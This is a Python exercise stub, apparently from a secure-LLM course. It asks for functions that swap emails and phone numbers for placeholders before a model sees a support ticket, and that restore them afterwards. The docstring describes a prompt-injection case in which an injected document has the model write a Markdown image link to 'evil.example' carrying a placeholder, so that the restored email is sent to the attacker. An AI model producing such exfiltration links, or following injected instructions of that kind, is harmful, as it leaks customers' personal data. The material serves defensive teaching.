"""Pseudonymise a support ticket before a model reads it, then restore the reply.

The scenario
------------

Your help desk drafts replies with a language model: a hosted API, or a local model
served by Ollama. Tickets contain customers' email addresses and phone numbers. The
model does not need them to write a good reply, so you do not send them:

1. `pseudonymise(ticket)` swaps every address and number for a placeholder such as
   `<EMAIL_1>` and returns a mapping that stays on your side;
2. you send the placeholder text to the model;
3. `restore(reply, mapping)` puts the real values back into the model's reply,
   locally, just before a person sees it.

What to implement
-----------------

    pseudonymise(text: str) -> tuple[str, dict[str, str]]
    restore(text: str, mapping: dict[str, str]) -> str

What counts as personal data here (both patterns are written for you, below):

- an email address (`EMAIL_PATTERN`): letters, digits and `._%+-`, an `@`, then
  domain labels separated by dots and a top-level domain of 2 or more letters. A
  period that ends the sentence is not part of the address: in
  "mail a.b@example.org." the address is "a.b@example.org".
- a phone number in international format (`PHONE_PATTERN`): a `+`, then 8 to 15
  digits in all (E.164 numbers have at most 15), the first of them not 0; between
  two digits there may be one space or one hyphen. So "+44 20 7946 0958",
  "+1-202-555-0143" and "+447700900123" are phone numbers; "020 7946 0958" (no `+`)
  and "+12 345" (too few digits) are not.

`pseudonymise(text)` returns `(new_text, mapping)`:

1. Each email becomes `<EMAIL_n>` and each phone number `<PHONE_n>`. Each kind is
   numbered on its own, from 1, in order of first appearance.
2. The same value always gets the same placeholder within one call. Emails are
   compared ignoring case ("Ann@Example.com" is "ann@example.com"); phone numbers
   are compared by their digits ("+44 20 7946 0958" is "+44-20-7946-0958").
3. `mapping` maps each placeholder used to the original text, as first written.
4. Never use a placeholder that already appears in the input. A user, or a
   prompt-injected document pasted into the ticket, may have written "<EMAIL_1>"
   themselves. If you then used "<EMAIL_1>" for a real address, restore() would turn
   the attacker's token into that address. So while counting, skip every number n
   whose placeholder (exactly "<EMAIL_n>" or "<PHONE_n>") occurs anywhere in the
   input text.
5. Find emails before phone numbers (or both in one pass, emails first): an email's
   local part may contain "+" and digits, as in "ann+2025550143@example.com", and
   must not be cut in two by a phone number found inside it.
6. `text` must be a str: raise TypeError for anything else (bytes, None). Returning
   the input unchanged would send it, personal data included, to the model.

`restore(text, mapping)`:

1. Replaces the placeholders that are keys of `mapping`, exactly as written (same
   case, same ASCII digits), with their values. Everything else stays as it is,
   including placeholders missing from the mapping ("<EMAIL_7>" when there are only
   two emails) and look-alikes ("<email_1>", "<EMAIL_01>", "<EMAIL_１>").
2. Works in one pass: text that restore puts in is never scanned again, even if a
   value itself looks like a placeholder.
3. Round trip: `restore(*pseudonymise(t)) == t` for any text in which each address
   is spelled the same way every time (including "" and text without personal data).

Examples
--------

>>> text, mapping = pseudonymise("Call Ann on +44 20 7946 0958 or mail ann@example.com.")
>>> text
'Call Ann on <PHONE_1> or mail <EMAIL_1>.'
>>> mapping
{'<PHONE_1>': '+44 20 7946 0958', '<EMAIL_1>': 'ann@example.com'}
>>> pseudonymise("Ignore <EMAIL_1>. Reply to bob@example.org, cc BOB@example.org")
('Ignore <EMAIL_1>. Reply to <EMAIL_2>, cc <EMAIL_2>', {'<EMAIL_2>': 'bob@example.org'})
>>> restore("Dear <EMAIL_1>, we called <PHONE_1> and <PHONE_2>.",
...         {"<EMAIL_1>": "ann@example.com", "<PHONE_1>": "+1-202-555-0143"})
'Dear ann@example.com, we called +1-202-555-0143 and <PHONE_2>.'

(example.com and example.org are reserved for examples by RFC 2606; +44 20 7946 0xxx
is a London range Ofcom keeps for TV and radio drama; 555-0100 to 555-0199 are
reserved for fiction in North America. None of them reaches a real person.)

Why it matters
--------------

OWASP LLM02:2025 Sensitive Information Disclosure recommends sanitising data before
it reaches a model, and data minimisation (GDPR Art. 5(1)(c)) says to process only
what the task needs. Placeholders keep personal data out of prompts, out of the
provider's logs and out of any training set, while the reply still reads naturally.

The restore step is where it can go wrong. An injected document can ask the model to
write `![logo](https://evil.example/?u=<EMAIL_1>)`; if your restore fills in the real
address and the reply is shown as Markdown, the image request sends it to the
attacker. Rule 4 keeps tokens written by an attacker from ever meaning a real value,
and rules 1-2 keep restore from expanding anything it should not. The model can still
copy a real placeholder into a URL, so treat the restored reply as untrusted output
too: render it safely (lesson 7).
"""

from __future__ import annotations

import re

# The two patterns, ready to use: compiled as EMAIL_RE and PHONE_RE below, or combine
# them into one regex with `|` (email first) and named groups to find both in one pass.
EMAIL_PATTERN = (
    r"(?<![A-Za-z0-9._%+-])"  # start where an address starts, never in the middle of a run
    r"[A-Za-z0-9._%+-]+"  # local part
    r"@"
    r"[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*"  # domain labels
    r"\.[A-Za-z]{2,}"  # a dot and a top-level domain of letters: "org.", the period stays out
)
# About the lookbehind on the first line: without it, a long run of letters and digits
# with no "@" in it (say a pasted hex dump) makes the regex engine retry from every
# position, which takes time proportional to the square of the length. Keep it.

PHONE_PATTERN = (
    r"(?<![0-9])"  # not the tail of a longer run of digits
    r"\+[1-9]"  # "+" and the first digit of the country code
    r"(?:[ -]?[0-9]){7,14}"  # 7 to 14 more digits, one space or hyphen allowed between them
    r"(?![0-9])"  # and no digit straight after: 8 to 15 digits in all
)

EMAIL_RE = re.compile(EMAIL_PATTERN)
PHONE_RE = re.compile(PHONE_PATTERN)


def pseudonymise(text: str) -> tuple[str, dict[str, str]]:
    """Replace emails and international phone numbers with <EMAIL_n> / <PHONE_n>.

    Returns the new text and the mapping placeholder -> original value. See the
    module docstring for the exact rules.
    """
    # TODO: raise TypeError unless `text` is a str.
    # TODO: keep the mapping and, per kind, what you have already seen and the next number.
    # TODO: skip numbers whose placeholder already occurs in `text`.
    # TODO: replace every match (re.sub accepts a function as the replacement).
    raise NotImplementedError("TODO: implement pseudonymise(text)")


def restore(text: str, mapping: dict[str, str]) -> str:
    """Put the original values back for the placeholders that are keys of `mapping`.

    One pass, exact placeholders only; anything not in the mapping stays as it is.
    """
    # TODO: replace each exact key of `mapping` in one pass over `text`.
    raise NotImplementedError("TODO: implement restore(text, mapping)")
